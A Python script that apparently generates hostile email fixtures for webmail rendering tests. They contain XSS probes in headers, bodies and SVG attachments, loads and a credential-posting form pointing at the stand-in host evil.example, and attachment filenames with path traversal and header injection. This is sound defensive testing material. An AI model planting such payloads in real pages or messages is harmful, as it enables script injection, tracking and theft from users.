#!/usr/bin/python3
"""Writes hostile messages for the web tests into DIR (argument): markup
and script in every place a message can carry it.  Each page showing them
must keep it as text; nothing may run or load from elsewhere."""
import os, sys
out = sys.argv[1]
os.makedirs(out, exist_ok=True)
html = """<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/">
<style>body{background:url(https://evil.example/css.png)}</style>
<link rel="stylesheet" href="https://evil.example/x.css"></head>
<body onload="alert(1)"><script>alert('body script')</script>
<p>Quarterly <b>figures</b> inside.</p>
<img src="https://evil.example/pixel.gif" onerror="alert(2)">
<a href="javascript:alert(3)">click me</a>
<svg><script>alert(4)</script></svg>
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/steal"><input name=p></form>
</body></html>
"""
msgs = {
    "01-html-script.eml":
        "From: \"<script>alert('from')</script>\" <attacker@evil.example>\n"
        "To: victim@example.org\n"
        "Subject: <img src=x onerror=alert('subject')> hostile figures\n"
        "Date: Mon, 06 Mar 2017 10:00:00 +0000\nMessage-ID: <hostile-1@evil.example>\n"
        "MIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n\n" + html,
    "02-encoded-word.eml":
        "From: =?utf-8?b?PHNjcmlwdD5hbGVydCgnZXcnKTwvc2NyaXB0Pg==?= <ew@evil.example>\n"
        "To: victim@example.org\n"
        "Subject: =?utf-8?q?=3Ciframe_src=3Djavascript:alert(5)=3E?= encoded figures\n"
        "Date: Mon, 06 Mar 2017 11:00:00 +0000\nMessage-ID: <hostile-2@evil.example>\n\n"
        "Plain text with <script>alert(6)</script> and \"quotes\" & ampersands figures.\n",
    "03-attachment-names.eml":
        "From: files@evil.example\nTo: victim@example.org\nSubject: attachment names figures\n"
        "Date: Mon, 06 Mar 2017 12:00:00 +0000\nMessage-ID: <hostile-3@evil.example>\n"
        "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n"
        "--b\nContent-Type: text/plain\n\nsee attached figures\n"
        "--b\nContent-Type: text/html; name=\"../../evil\\\"\r\n.html\"\n"
        "Content-Disposition: attachment; filename=\"../../evil\\\"\x07.html\"\n\n"
        "<script>alert(7)</script>\n"
        "--b\nContent-Type: image/svg+xml\nContent-Disposition: attachment; filename=\"x.svg\"\n\n"
        "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(8)\"><script>alert(9)</script></svg>\n"
        "--b--\n",
    "04-related.eml":
        "From: Newsletter <news@evil.example>\nTo: victim@example.org\n"
        "Subject: related figures\nDate: Mon, 06 Mar 2017 13:00:00 +0000\n"
        "Message-ID: <hostile-4@evil.example>\nMIME-Version: 1.0\n"
        "Content-Type: multipart/related; boundary=r\n\n"
        "--r\nContent-Type: text/html; charset=utf-8\n\n"
        "<p>Newsletter figures <img src=\"cid:logo@evil.example\" alt=\"logo\" width=\"1\"></p>\n"
        "<img src=\"cid:svg@evil.example\"><img src=\"https://evil.example/track.gif\" alt=\"pixel\">\n"
        "<a href=\"java&#x09;script:alert(10)\">tabbed scheme</a> <a href=\"https://example.org/\">ok link</a>\n"
        "<div style=\"position:fixed;top:0;background:url(https://evil.example/bg.png)\">overlay</div>\n"
        "<object data=\"https://evil.example/x.swf\"></object><math><mtext><script>alert(11)</script></mtext></math>\n"
        "<table><tr><td onmouseover=\"alert(12)\" colspan=\"2\">cell</td></tr></table>\n"
        "<noscript><img src=\"https://evil.example/ns.gif\"></noscript><base href=\"https://evil.example/\">\n"
        "--r\nContent-Type: image/png\nContent-ID: <logo@evil.example>\n"
        "Content-Transfer-Encoding: base64\n\n"
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==\n"
        "--r\nContent-Type: image/svg+xml\nContent-ID: <svg@evil.example>\n\n"
        "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(13)\"/>\n"
        "--r--\n",
}
for name, text in msgs.items():
    with open(os.path.join(out, name), "wb") as f:
        f.write(text.encode("utf-8"))
